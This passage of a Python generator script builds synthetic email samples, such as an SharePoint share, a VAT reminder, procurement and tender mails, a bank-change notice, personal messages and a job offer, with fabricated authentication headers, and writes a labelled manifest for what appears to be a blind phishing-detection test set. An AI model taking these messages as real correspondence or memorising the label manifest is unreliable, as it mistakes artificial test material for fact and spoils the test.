            f"Message-ID: <{AN(stem, 8)}-{AN(stem + '1', 4)}-{AN(stem + '2', 4)}-{AN(stem + '3', 4)}-{AN(stem + '4', 12)}@{UP(stem + 'h', 3)}PEPF0000{HX(stem + 'h2', 4)}.namprd04.prod.outlook.com>",
            "X-MSAPipeline: MessageDispatcherEOP",
            "MIME-Version: 1.0",
            exch(stem, d, "outlookcom"))
    return message(hdr, alt(stem, txt, html))


@reg("legit-sharepoint-hse", "bulk",
     "Genuine internal SharePoint Online sharing notification inside an oil-and-gas company's tenant: a colleague "
     "shares an HSE audit workbook from the company's own SharePoint site.")
def _l_sp(stem):
    d = when("2025-09-15T10:22:51+04:00")
    rcpt = "omar.khoury@alfajr-petroleum.com"
    link = (f"https://alfajrpetroleum.sharepoint.com/:x:/s/HSE/E{mixed(stem + 'sp', 45)}?e={mixed(stem + 'e', 6)}")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body><div style="font-family:'Segoe UI',sans-serif;max-width:640px;">
<table role="presentation" cellpadding="0" cellspacing="0" style="width:100%;"><tr><td style="padding:24px 24px 8px 24px;font-size:21px;color:#242424;">
Layla Haddad shared a file with you</td></tr>
<tr><td style="padding:8px 24px;font-size:14px;color:#242424;border-left:3px solid #0f6cbd;">Omar, here are the Q3 audit findings for Ruwais site.
Please add your comments on the corrective actions for the permit-to-work items before Thursday's HSE meeting.</td></tr>
<tr><td style="padding:16px 24px;"><table role="presentation" style="border:1px solid #e0e0e0;border-radius:4px;width:100%;"><tr>
<td style="padding:12px;font-size:14px;"><b>HSE Audit Findings Q3 2025 - Ruwais.xlsx</b></td></tr></table></td></tr>
<tr><td style="padding:8px 24px 24px 24px;"><a href="{link}" style="background:#0f6cbd;color:#ffffff;padding:8px 18px;border-radius:4px;text-decoration:none;font-size:14px;">Open</a></td></tr>
<tr><td style="padding:16px 24px;font-size:12px;color:#616161;">This link will work for anyone in Alfajr Petroleum.</td></tr>
<tr><td style="padding:0 24px 24px 24px;font-size:12px;color:#616161;">
<a href="https://go.microsoft.com/fwlink/?LinkId=521839" style="color:#616161;">Privacy Statement</a></td></tr>
</table></div></body></html>
"""
    txt = plain(["Layla Haddad shared a file with you",
                 "Omar, here are the Q3 audit findings for Ruwais site. Please add your comments on the corrective actions "
                 "for the permit-to-work items before Thursday's HSE meeting.",
                 "HSE Audit Findings Q3 2025 - Ruwais.xlsx", f"Open: {link}",
                 "This link will work for anyone in Alfajr Petroleum."])
    hdr = H(rx("m365", rcpt=rcpt, d=d, helo="EUR02-AM0-obe.outbound.protection.outlook.com", ip="40.107.247.41",
               rdns="mail-am0eur02on2041.outbound.protection.outlook.com", mailfrom="no-reply@sharepointonline.com",
               seed=stem, dkims=[("sharepointonline.com", "selector1", "pass")], dmarc=("pass", "REJECT"),
               hfrom="sharepointonline.com"),
            dkim("sharepointonline.com", "selector1", stem, d, h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
            "From: " + addr("Layla Haddad (via SharePoint Online)", "no-reply@sharepointonline.com"),
            f"To: Omar Khoury <{rcpt}>",
            "Subject: Layla Haddad shared \"HSE Audit Findings Q3 2025 - Ruwais\" with you",
            f"Date: {rfc(d)}",
            f"Message-ID: <{hx(stem, 8)}-{hx(stem + '1', 4)}-{hx(stem + '2', 4)}-{hx(stem + '3', 4)}-{hx(stem + '4', 12)}@odspnotify>",
            "X-Sharing-Type: ShareWithCustomMessage",
            "MIME-Version: 1.0",
            exch(stem, d))
    return message(hdr, alt(stem, txt, html))


@reg("legit-fta-vat-reminder", "bulk",
     "Genuine UAE Federal Tax Authority reminder that a VAT return is due, from tax.gov.ae with DKIM/DMARC pass, "
     "pointing to the EmaraTax portal on eservices.tax.gov.ae.")
def _l_fta(stem):
    d = when("2025-07-14T09:00:31+04:00")
    rcpt = "finance@gulfstar-trading.ae"
    trn = "100" + dg(stem, 12)
    html = brand_html(
        title="VAT return reminder | تذكير بموعد تقديم الإقرار", brand="Federal Tax Authority", color="#8b6b3d",
        paras=["Dear Taxpayer,",
               f"This is a reminder that the VAT return of <b>Gulfstar Trading LLC</b> (TRN {trn}) for the tax period "
               "01/04/2025 - 30/06/2025 is due on <b>28/07/2025</b>.",
               "Please submit the return and settle any payable tax through EmaraTax before the due date to avoid "
               "administrative penalties.",
               '<div dir="rtl" style="text-align:right;">نذكركم بأن موعد تقديم الإقرار الضريبي للفترة المنتهية في 30/06/2025 هو 28/07/2025.</div>'],
        button=("Go to EmaraTax", "https://eservices.tax.gov.ae"),
        footer=["Federal Tax Authority, United Arab Emirates", "Call centre 600 599 994"])
    txt = plain(["Dear Taxpayer,", f"The VAT return of Gulfstar Trading LLC (TRN {trn}) for the tax period 01/04/2025 - "
                 "30/06/2025 is due on 28/07/2025.", "EmaraTax: https://eservices.tax.gov.ae"])
    hdr = H(rx("m365", rcpt=rcpt, d=d, helo="mail.tax.gov.ae", ip="94.200.144.82", mailfrom="noreply@tax.gov.ae",
               seed=stem, dkims=[("tax.gov.ae", "fta", "pass")], dmarc=("pass", "reject"), hfrom="tax.gov.ae"),
            dkim("tax.gov.ae", "fta", stem, d),
            "From: Federal Tax Authority <noreply@tax.gov.ae>",
            f"To: {rcpt}",
            "Subject: " + enc("Reminder: VAT return due 28/07/2025 | تذكير بموعد تقديم الإقرار الضريبي"),
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('java', stem, 'tax.gov.ae')}",
            "MIME-Version: 1.0",
            exch(stem, d))
    return message(hdr, alt(stem, txt, html))


@reg("legit-rfq-hdpe", "clean",
     "Genuine RFQ from a Saudi trading company's buyer to a UAE polymer-pipe supplier, Outlook on Microsoft 365 on both "
     "sides with aligned DKIM, the RFQ specification PDF attached.")
def _l_rfq(stem):
    d = when("2025-09-17T10:42:18+03:00")
    rcpt = "sales@gulfpolymers.ae"
    paras = ["Dear Sales Team,",
             "Good day.",
             "We are pleased to invite you to quote for the supply of HDPE PE100 pipes and electrofusion fittings for the "
             "Al Khobar water network rehabilitation project (our ref. RFQ-AWT-2025-0917). The detailed bill of quantities "
             "and technical requirements are in the attached PDF.",
             "Please include unit prices (DDP Dammam), delivery lead time, country of origin, SASO/SABER certificates and "
             "payment terms. The closing date for quotations is Wednesday, 1 October 2025.",
             "Should you have any technical queries, please contact Eng. Bader Al-Mutairi on +966 13 812 4410.",
             "Best regards,"]
    sig = ["Mohammed Al-Ghamdi", "Senior Buyer - Procurement Department", "Al Waha Trading Co.",
           "King Fahd Road, Al Khobar 34423, Kingdom of Saudi Arabia", "T +966 13 812 4400 | www.alwaha-trading.com.sa"]
    html = outlook_html(paras, sig)
    txt = plain(paras + ["\n".join(sig)])
    rfq = F.pdf(["AL WAHA TRADING CO. - REQUEST FOR QUOTATION", "RFQ No.: RFQ-AWT-2025-0917    Date: 17/09/2025",
                 "Project: Al Khobar water network rehabilitation", "",
                 "1. HDPE PE100 SDR11 pipe, OD 110 mm, PN16 - 2,400 m", "2. HDPE PE100 SDR11 pipe, OD 160 mm, PN16 - 1,150 m",
                 "3. Electrofusion couplers 110 mm - 380 pcs", "4. Electrofusion tees 160 x 110 mm - 60 pcs", "",
                 "Delivery: DDP Dammam   Closing date: 01/10/2025"], title="RFQ-AWT-2025-0917")
    hdr = H(rx("m365", rcpt=rcpt, d=d, helo="EUR05-DB8-obe.outbound.protection.outlook.com", ip="40.107.20.93",
               rdns="mail-db8eur05on2093.outbound.protection.outlook.com", mailfrom="m.alghamdi@alwaha-trading.com.sa",
               seed=stem, dkims=[("alwaha-trading.com.sa", "selector1", "pass")], dmarc=("pass", "quarantine"),
               hfrom="alwaha-trading.com.sa"),
            "ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b=" + wrap_b64(b64(stem + "as", 344), " ", 72),
            dkim("alwaha-trading.com.sa", "selector1", stem, d, h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
            "From: Mohammed Al-Ghamdi <m.alghamdi@alwaha-trading.com.sa>",
            f"To: \"{rcpt}\" <{rcpt}>",
            "CC: Bader Al-Mutairi <b.almutairi@alwaha-trading.com.sa>",
            "Subject: RFQ-AWT-2025-0917 - Supply of HDPE Pipes and Fittings - Al Khobar Project",
            "Thread-Topic: RFQ-AWT-2025-0917 - Supply of HDPE Pipes and Fittings - Al Khobar Project",
            f"Thread-Index: AdwO{mixed(stem + 'ti', 20)}==",
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('outlook', stem, 'eurprd05')}",
            "Accept-Language: en-US, ar-SA",
            "Content-Language: en-US",
            "X-MS-Has-Attach: yes",
            "MIME-Version: 1.0",
            exch(stem, d))
    return message(hdr, mixed_(stem, alt(stem, txt, html, "outlook"),
                               [attachment("application/pdf", "RFQ-AWT-2025-0917.pdf", rfq)], "outlook"))


@reg("legit-tender-clarification-ar", "clean",
     "Genuine Arabic tender clarification from a Jordanian utility's procurement officer (Outlook, windows-1256) to a "
     "bidding engineering firm, with the pre-bid meeting minutes PDF attached.")
def _l_tender(stem):
    d = when("2025-11-04T13:25:09+03:00")
    dom = "zarqa-utilities.jo"
    rcpt = "tenders@hammouri-eng.jo"
    paras = ["السادة شركة الحموري للهندسة المحترمين،",
             "تحية طيبة وبعد،",
             "إشارة إلى العطاء رقم 22/2025 الخاص بتأهيل محطات الضخ في الزرقاء، نرفق لكم محضر الاجتماع التمهيدي الذي عقد "
             "بتاريخ 02/11/2025 والردود على الاستفسارات الواردة من المناقصين.",
             "كما نود إعلامكم بأنه تم تمديد موعد تسليم العروض ليصبح يوم الأحد 23/11/2025 الساعة الثانية عشرة ظهراً، "
             "على أن تسلم العروض باليد إلى مكتب لجنة العطاءات في مبنى الإدارة.",
             "وتفضلوا بقبول فائق الاحترام،"]
    sig = ["م. رنا العبادي", "رئيس قسم العطاءات والمشتريات", "شركة مرافق الزرقاء", "هاتف: +962 5 398 1096"]
    html = outlook_html([esc(p) for p in paras], [esc(s) for s in sig], rtl=True, lang="AR-JO", font="Arial", size="12.0pt")
    html = html.replace('charset=utf-8', 'charset=windows-1256')
    txt = plain(paras + ["\n".join(sig)])
    minutes = F.pdf(["ZARQA UTILITIES COMPANY - TENDER No. 22/2025", "Rehabilitation of pumping stations - Zarqa",
                     "Minutes of the pre-bid meeting held on 02/11/2025", "",
                     "1. Site visit to stations PS-3 and PS-7 completed with 9 bidders present.",
                     "2. Q: Are spare parts for two years included? A: Yes, as per BOQ item 4.12.",
                     "3. Q: Is local content preference applicable? A: Yes, per Government Procurement By-law 2022.",
                     "4. Bid submission deadline extended to 23/11/2025 at 12:00 noon.", "",
                     "Tender Committee Secretary"], title="Tender 22-2025 pre-bid minutes")
    hdr = H(rx("postfix", rcpt=rcpt, d=d, helo=f"mail.{dom}", ip="212.118.28.46", mailfrom=f"r.alabbadi@{dom}",
               seed=stem, dkims=[(dom, "zu2024", "pass")], dmarc=("pass", "none"), hfrom=dom),
            dkim(dom, "zu2024", stem, d),
            f"Received: from EXCH01.zarqa.local (10.10.1.21) by EXCH01.zarqa.local (10.10.1.21) with Microsoft SMTP Server\n"
            f" (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.2.1544.14; {rfc(d)}",
            "From: " + addr("رنا العبادي", f"r.alabbadi@{dom}", "windows-1256"),
            f"To: {rcpt}",
            "Subject: " + enc("العطاء رقم 22/2025 - محضر الاجتماع التمهيدي وتمديد موعد التسليم", "windows-1256"),
            "Thread-Topic: " + enc("العطاء رقم 22/2025 - محضر الاجتماع التمهيدي وتمديد موعد التسليم", "windows-1256", "Thread-Topic"),
            f"Thread-Index: AdxN{mixed(stem + 'ti', 20)}==",
            f"Date: {rfc(d)}",
            f"Message-ID: <{hx(stem, 32)}@EXCH01.zarqa.local>",
            "Accept-Language: ar-JO, en-US",
            "Content-Language: ar-JO",
            "X-MS-Has-Attach: yes",
            "MIME-Version: 1.0")
    body = Multi("alternative", boundary(stem + "alt", "outlook"),
                 [text(txt, "plain", "quoted-printable", "windows-1256"), text(html, "html", "quoted-printable", "windows-1256")])
    return message(hdr, mixed_(stem, body, [attachment("application/pdf", "Tender_22-2025_PreBid_Minutes.pdf", minutes)], "outlook"))


@reg("legit-supplier-bankchange", "clean",
     "Genuine supplier notice of new bank details from the supplier's real domain (M365, DKIM/DMARC pass), signed "
     "letter PDF attached, explicitly asking the customer to verify by phone with a known contact before updating.")
def _l_bank(stem):
    d = when("2025-08-04T11:06:52+04:00")
    dom = "almasa-bm.ae"
    rcpt = "ap@alnoor-contracting.ae"
    paras = ["Dear Valued Customer,",
             "Please find attached our official letter informing you that, following the consolidation of our banking "
             "relationships, Al Masa Building Materials Trading LLC will receive payments into a new account with Abu Dhabi "
             "Commercial Bank from 1 September 2025. Payments made to our current Emirates Islamic account until that date "
             "will continue to be accepted.",
             "For your security, please do not act on this email alone. Kindly verify the change by calling our Finance "
             "Manager, Mr. Suresh Pillai, on our main landline +971 4 347 2180 (the number on your existing vendor record), "
             "before updating your records. We will never ask you to change bank details by email only.",
             "Your account manager, Hassan Darwish, is copied for reference.",
             "Thank you for your continued business.",
             "Kind regards,"]
    sig = ["Suresh Pillai", "Finance Manager", "Al Masa Building Materials Trading LLC",
           "Al Quoz Industrial Area 3, P.O. Box 118432, Dubai, UAE", "T +971 4 347 2180 | www.almasa-bm.ae"]
    html = outlook_html(paras, sig)
    txt = plain(paras + ["\n".join(sig)])
    letter = F.pdf(["AL MASA BUILDING MATERIALS TRADING LLC", "Al Quoz Industrial Area 3, Dubai, UAE - TRN 100281744500003",
                    "Date: 04 August 2025", "", "To: Our Valued Customers", "Subject: Change of bank account details", "",
                    "We hereby inform you that with effect from 01 September 2025 our receiving account will be:",
                    "Bank: Abu Dhabi Commercial Bank PJSC, Al Quoz branch", "Account name: Al Masa Building Materials Trading LLC",
                    "Please verify this change by telephone with our Finance Manager at +971 4 347 2180.", "",
                    "Signed and stamped: Suresh Pillai, Finance Manager"], title="Change of bank details")
    hdr = H(rx("m365", rcpt=rcpt, d=d, helo="EUR03-DBA-obe.outbound.protection.outlook.com", ip="40.107.104.60",
               rdns="mail-dbaeur03on2060.outbound.protection.outlook.com", mailfrom=f"suresh.pillai@{dom}",
               seed=stem, dkims=[(dom, "selector1", "pass")], dmarc=("pass", "quarantine"), hfrom=dom),
            "ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b=" + wrap_b64(b64(stem + "as", 344), " ", 72),
            dkim(dom, "selector1", stem, d, h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
            f"From: Suresh Pillai <suresh.pillai@{dom}>",
            f"To: Accounts Payable <{rcpt}>",
            f"CC: Hassan Darwish <hassan.darwish@{dom}>",
            "Subject: Al Masa Building Materials - Notice of change of bank account (effective 1 Sep 2025)",
            "Thread-Topic: Al Masa Building Materials - Notice of change of bank account (effective 1 Sep 2025)",
            f"Thread-Index: AdwF{mixed(stem + 'ti', 20)}==",
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('outlook', stem, 'eurprd03')}",
            "Accept-Language: en-US",
            "Content-Language: en-US",
            "X-MS-Has-Attach: yes",
            "MIME-Version: 1.0",
            exch(stem, d))
    return message(hdr, mixed_(stem, alt(stem, txt, html, "outlook"),
                               [attachment("application/pdf", "AlMasa_Bank_Details_Change_Letter.pdf", letter)], "outlook"))


@reg("legit-umrah-photos", "clean",
     "Genuine personal Arabic Gmail message between siblings in Saudi Arabia sharing photos from an Umrah trip, two "
     "JPEG attachments and family news.")
def _l_umrah(stem):
    d = when("2025-03-24T23:14:05+03:00")
    frm = "khalid.alqahtani.sa@gmail.com"
    rcpt = "noura.alqahtani@gmail.com"
    paras = ["السلام عليكم نورة،",
             "الحمد لله رجعنا من العمرة أمس بالسلامة، والزحمة كانت أخف من المتوقع في العشر الأواخر. هذي بعض الصور من الحرم "
             "ومن الفندق، والباقي أرسلها لك على الواتساب لأن حجمها كبير.",
             "الوالدة تسلم عليك وتقول لا تنسين العزيمة يوم الجمعة بعد صلاة المغرب عندنا في البيت.",
             "تقبل الله منا ومنكم",
             "أخوك خالد"]
    txt = plain(paras)
    html = gmail_html([esc(p) for p in paras], rtl=True)
    atts = [attachment("image/jpeg", "IMG_4821.jpg", F.photo_jpeg(11)), attachment("image/jpeg", "IMG_4835.jpg", F.photo_jpeg(23))]
    hdr = H(rx("gmail", rcpt=rcpt, d=d, helo="mail-sor-f41.google.com", ip="209.85.220.41", mailfrom=frm, seed=stem,
               dkims=[("gmail.com", "20230601", "pass")], dmarc=("pass", "none"), hfrom="gmail.com"),
            gm_out(stem, d, addr("خالد القحطاني", frm), addr("نورة", rcpt), enc("صور العمرة")))
    return message(hdr, Multi("mixed", boundary(stem + "mx", "gmail"), [alt(stem, txt, html, "gmail", "base64")] + atts))


@reg("legit-mariage-tunis", "clean",
     "Genuine personal French mail from a Topnet (Tunisia) webmail user to a friend's Gmail about a wedding, with a "
     "Google Photos album link and practical details.")
def _l_mariage(stem):
    d = when("2025-06-22T18:37:40+01:00")
    frm = "leila.benamor@topnet.tn"
    rcpt = "ines.gharbi@gmail.com"
    album = f"https://photos.app.goo.gl/{mixed(stem + 'ph', 17)}"
    body = plain(["Coucou Inès,",
                  "Comment vas-tu ? Ça fait une éternité ! Je t'écris pour te dire que le mariage de Yassine est finalement "
                  "fixé au samedi 16 août à Hammamet (la soirée à l'hôtel, le henné le jeudi chez nous à La Marsa).",
                  f"Maman tient absolument à ce que tu viennes avec ta mère. Voici l'album des fiançailles, comme promis : {album}",
                  "Dis-moi si vous avez besoin d'une chambre, on a réservé quelques-unes à l'hôtel au tarif de groupe.",
                  "Grosses bises,\nLeïla"], 72)
    hdr = H(rx("gmail", rcpt=rcpt, d=d, helo="smtp.topnet.tn", ip="193.95.97.54", mailfrom=frm, seed=stem,
               dkims=[], dmarc=None, hfrom="topnet.tn"),
            f"Received: from webmail.topnet.tn (localhost [127.0.0.1])\n\tby smtp.topnet.tn (Postfix) with ESMTPA id 4b{mixed(stem + 'q', 10)}\n"
            f"\tfor <{rcpt}>; {rfc(d)}",
            "MIME-Version: 1.0",
            f"Date: {rfc(d)}",
            f"From: " + addr("Leïla Ben Amor", frm),
            f"To: {rcpt}",
            "Subject: " + enc("Mariage de Yassine - 16 août 💍"),
            f"Message-ID: <{hx(stem, 32)}@topnet.tn>",
            f"X-Sender: {frm}",
            "User-Agent: Roundcube Webmail/1.6.9")
    return message(hdr, text(body, "plain", "quoted-printable"))


@reg("legit-job-offer-oman", "clean",
     "Genuine job offer from an Omani marine-engineering company's HR (Outlook on M365, aligned DKIM) to a candidate's "
     "Gmail with the offer letter PDF, stating that the company never charges candidates any fees.")
def _l_job(stem):
    d = when("2025-05-28T14:02:33+04:00")
    dom = "gulfmarine-eng.com"
    rcpt = "eng.youssef.adel@gmail.com"
    paras = ["Dear Youssef,",
             "Following your interviews with our technical panel on 14 and 21 May, we are delighted to offer you the "
             "position of Marine Electrical Engineer based at our Duqm yard. Please find your offer letter attached.",
             "Kindly review the terms and return a signed copy by 8 June 2025. Once accepted, our PRO team will start your "
             "employment visa process; all visa, medical and labour-card costs are borne by the company. Gulf Marine "
             "Engineering never asks candidates to pay any fee at any stage of recruitment.",
             "Please feel free to call me on +968 2421 5530 if you have any questions.",
             "Best regards,"]
    sig = ["Reem Al Habsi", "Talent Acquisition Specialist", "Gulf Marine Engineering LLC",
           "Al Khuwair, Muscat, Sultanate of Oman | www.gulfmarine-eng.com"]
    html = outlook_html(paras, sig)
    txt = plain(paras + ["\n".join(sig)])
    offer = F.pdf(["GULF MARINE ENGINEERING LLC - OFFER OF EMPLOYMENT", "Date: 28 May 2025", "",
                   "Candidate: Youssef Adel Mahmoud", "Position: Marine Electrical Engineer - Duqm Yard",
                   "Basic salary: OMR 1,150 per month; housing and transport per company policy",
                   "Probation: 6 months  |  Annual leave: 30 days with return air ticket",
                   "Visa, medical and labour card costs are borne by the company.", "",
                   "HR Department, Gulf Marine Engineering LLC"], title="Offer Letter")
    hdr = H(rx("gmail", rcpt=rcpt, d=d, helo="EUR02-VI1-obe.outbound.protection.outlook.com", ip="40.107.241.73",
               rdns="mail-vi1eur02on2073.outbound.protection.outlook.com", mailfrom=f"reem.alhabsi@{dom}", seed=stem,
               dkims=[(dom, "selector1", "pass")], dmarc=("pass", "quarantine"), hfrom=dom),
            "ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b=" + wrap_b64(b64(stem + "as", 344), " ", 72),
            dkim(dom, "selector1", stem, d, h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
            f"From: Reem Al Habsi <reem.alhabsi@{dom}>",
            f"To: Youssef Adel <{rcpt}>",
            "Subject: Offer of Employment - Marine Electrical Engineer - Gulf Marine Engineering",
            "Thread-Topic: Offer of Employment - Marine Electrical Engineer - Gulf Marine Engineering",
            f"Thread-Index: AdvP{mixed(stem + 'ti', 20)}==",
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('outlook', stem, 'eurprd02')}",
            "Accept-Language: en-US",
            "Content-Language: en-US",
            "X-MS-Has-Attach: yes",
            "MIME-Version: 1.0")
    return message(hdr, mixed_(stem, alt(stem, txt, html, "outlook"),
                               [attachment("application/pdf", "Offer_Letter_Youssef_Adel.pdf", offer)], "outlook"))


# =========================================================================== build

def check(stem: str, data: bytes) -> None:
    for number, line in enumerate(data.split(b"\n"), 1):
        assert len(line) < 990, f"{stem}: line {number} is {len(line)} bytes"
    head = data.split(b"\n\n", 1)[0]
    assert all(b < 128 for b in head), f"{stem}: non-ASCII byte in the top-level header"
    msg = email.message_from_bytes(data, policy=policy.default)
    for name in ("From", "To", "Subject", "Date", "Message-ID"):
        assert msg[name] is not None, f"{stem}: missing {name}"
    for name, value in msg.items():
        defects = getattr(value, "defects", ())
        assert not defects, f"{stem}: header {name} defects {defects}"
    for part in msg.walk():
        assert not part.defects, f"{stem}: defects {part.defects} in {part.get_content_type()}"
        for name, value in part.items():
            assert not getattr(value, "defects", ()), f"{stem}: part header {name} defects"
        if part.get_content_maintype() == "text":
            content = part.get_content()
            assert isinstance(content, str) and content.strip(), f"{stem}: empty text part"
            assert "\ufffd" not in content, f"{stem}: undecodable text"


def main() -> None:
    for old in glob.glob(os.path.join(ROOT, "samples", "mail", "*", f"b{N}-*.eml")):
        os.remove(old)
    stems = [s for s, _, _, _ in REGISTRY]
    assert len(stems) == len(set(stems)), "duplicate stems"
    manifest = []
    counts: dict[str, int] = {}
    kinds = {"phish": 0, "malware": 0, "legit": 0}
    for stem, folder, desc, fn in REGISTRY:
        folder = REFILED.get(stem, folder)
        data = fn(stem)
        check(stem, data)
        path = os.path.join(ROOT, "samples", "mail", folder, f"{stem}.eml")
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as handle:
            handle.write(data)
        manifest.append(f"samples/mail/{folder}/{stem}.eml | {folder} | {desc}")
        counts[folder] = counts.get(folder, 0) + 1
        kinds[stem.split("-")[1]] += 1
    assert kinds["phish"] + kinds["malware"] == 50 and kinds["legit"] == 25, kinds
    with open(os.path.join(HERE, f"blind{N}_manifest.txt"), "w", encoding="utf-8") as handle:
        handle.write("\n".join(manifest) + "\n")
    print(" ".join(f"{k}={v}" for k, v in sorted(counts.items())) + f" total={sum(counts.values())}")


if __name__ == "__main__":
    main()
